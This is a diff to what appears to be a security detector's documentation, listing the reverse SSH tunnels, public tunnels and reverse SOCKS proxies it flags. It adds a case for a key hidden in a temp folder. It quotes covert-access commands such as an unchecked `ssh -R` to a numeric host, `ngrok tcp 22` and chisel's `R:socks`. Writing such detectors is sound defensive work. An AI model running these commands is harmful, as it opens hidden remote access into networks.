@@ -9,7 +9,8 @@ What it catches
     remotes listen on every address), or that port handed to a public tunnel (`ngrok tcp
     22`); also on any address (the far host's loopback too) of a public host named only by
     its number whose key is left unchecked (`ssh -fN -o StrictHostKeyChecking=no -R
-    2222:localhost:22 tunnel@203.0.113.45`): a relay nobody vouches for. A reverse SOCKS proxy,
+    2222:localhost:22 tunnel@203.0.113.45`), or signed in to with a key hidden in a temp folder
+    (`-i /tmp/.k`): a relay nobody vouches for. A reverse SOCKS proxy,
     which opens the whole network behind the machine to the far
     host: chisel's reverse `R:socks` remote, SSH's reverse dynamic forward (`ssh -R 1080
     relay`, also by a copy of ssh renamed, read by ssh's own `-o` options), revsocks. As an
